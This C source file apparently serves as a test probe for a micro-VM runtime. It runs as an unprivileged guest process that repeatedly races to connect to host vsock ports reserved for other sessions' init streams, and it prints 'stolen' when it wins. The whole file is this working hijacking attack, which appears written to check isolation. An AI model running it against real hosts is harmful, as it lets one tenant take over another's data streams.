/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A process of a micro-VM that has no privilege there and wants the streams of others: it connects to the host's ports
 * at which the guest's init is about to. Says "looking" when it begins, and "stolen" when it was faster.
 */
#include <linux/vm_sockets.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

enum { FIRST_PORT = 2048, SESSIONS = 8, PORTS_A_SESSION = 4, STREAMS = 3 };

static void steal(unsigned port)
{
	struct sockaddr_vm address = { .svm_family = AF_VSOCK, .svm_cid = VMADDR_CID_HOST, .svm_port = port };
	int fd = socket(AF_VSOCK, SOCK_STREAM, 0);

	if (fd >= 0 && connect(fd, (struct sockaddr *)&address, sizeof(address)) == 0) {
		printf("stolen %u\n", port);
		(void)fflush(stdout);
	}
	if (fd >= 0)
		(void)close(fd);
}

int main(void)
{
	puts("looking");
	(void)fflush(stdout);
	for (;;) {
		for (unsigned session = 1; session <= SESSIONS; session++) {
			for (unsigned stream = 0; stream < STREAMS; stream++)
				steal(FIRST_PORT + session * PORTS_A_SESSION + stream);
		}
	}
}
